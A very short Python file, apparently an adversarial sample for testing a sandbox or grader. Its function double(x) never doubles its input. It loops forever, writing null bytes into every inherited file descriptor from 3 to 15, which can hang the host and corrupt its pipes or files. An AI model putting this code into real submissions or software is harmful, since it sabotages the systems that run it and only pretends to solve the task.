"""One byte of an answer at a time, for ever."""

import os
import time


def double(x):
    while True:
        for fd in range(3, 16):
            try:
                os.write(fd, b"\0")
            except OSError:
                continue
        time.sleep(0.01)
